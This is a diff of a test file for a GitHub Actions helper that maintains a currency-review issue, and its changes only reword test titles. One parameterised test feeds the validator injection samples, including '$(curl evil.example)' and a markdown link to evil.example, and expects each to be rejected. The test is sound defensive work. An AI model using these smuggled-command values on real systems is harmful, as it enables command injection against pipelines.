@@ -37,7 +37,7 @@ describe('keepDoubtsIssue', () => {
     expect(body).toMatch(/\n\nThe run that wrote this: https:\/\/github\.com\/me\/fork\/actions\/runs\/1$/);
   });
 
-  it('doesn’t edit the issue if the list is the same, even if GitHub changed the line ends', async () => {
+  it('doesn’t edit the issue if the list is the same', async () => {
     await keep([hkd]);
     await keep([hkd]);
     Object.assign(workflow.api.issues[0] ?? {}, { body: workflow.api.issues[0]?.body.replaceAll('\n', '\r\n') });
@@ -46,7 +46,7 @@ describe('keepDoubtsIssue', () => {
     expect(states()).toEqual(['open']);
   });
 
-  it('edits the text once, without a comment, if the list changes', async () => {
+  it('edits the issue’s text once if the list changes', async () => {
     await keep([hkd]);
     for (let run = 0; run < 2; run++) await keep([{ ...hkd, sourceValue: 8.3 }, omitted]);
     expect(workflow.api.edits).toEqual(['body']);
@@ -54,14 +54,14 @@ describe('keepDoubtsIssue', () => {
     expect(workflow.api.issues[0]?.body).toMatch(/8\.3[^]*BRL[^]*runs\/2$/);
   });
 
-  it('opens and edits the issue even if the publish failed after validation', async () => {
+  it('opens the issue even if the publish failed after validation', async () => {
     await keep([hkd], 'failure');
     await keep([omitted], 'cancelled');
     expect(workflow.api.edits).toEqual(['body']);
     expect(states()).toEqual(['open']);
   });
 
-  it('closes the issue with a comment if a publish has an empty list, and opens another issue the next time', async () => {
+  it('closes the issue if a publish has an empty list', async () => {
     await keep([hkd]);
     await keep([], 'failure');
     expect(states()).toEqual(['open']);
@@ -77,7 +77,7 @@ describe('keepDoubtsIssue', () => {
     expect(states()).toEqual(['closed', 'open']);
   });
 
-  it('doesn’t reopen an issue that a person closed, until another currency or state is on the list', async () => {
+  it('opens no second issue after a manual close until the list has a new currency or state', async () => {
     await keep([hkd, omitted]);
     Object.assign(workflow.api.issues[0] ?? {}, { state: 'closed' });
     await keep([hkd, omitted]);
@@ -95,7 +95,7 @@ describe('keepDoubtsIssue', () => {
     expect(states()).toEqual(['open']);
   });
 
-  it('never changes an issue with the same title by another author', async () => {
+  it('never changes an issue that has the same title but a different author', async () => {
     const [title, body] = ['A currency needs a look: held for a week, or omitted', 'mine'];
     workflow.api.issues.push({ number: 1, state: 'open', title, labels: [], body, comments: [], author: 'me' });
     await keep([]);
@@ -110,7 +110,7 @@ describe('keepDoubtsIssue', () => {
     JSON.stringify([{ ...hkd, code: '@everyone' }]),
     JSON.stringify([{ ...hkd, reason: '`\n# [look](https://evil.example)' }]),
     JSON.stringify([{ ...hkd, sourceValue: '$(curl evil.example)' }]),
-  ])('throws and changes nothing if the publish’s output is invalid: %s', async (output) => {
+  ])('throws and changes nothing if the output of the publish is the invalid text %s', async (output) => {
     await expect(keep(output)).rejects.toThrow(CommandError);
     await expect(keep(output)).rejects.toThrow(
       /^The publish job’s output "doubts" is malformed\. See \S+, which .*\.$/,
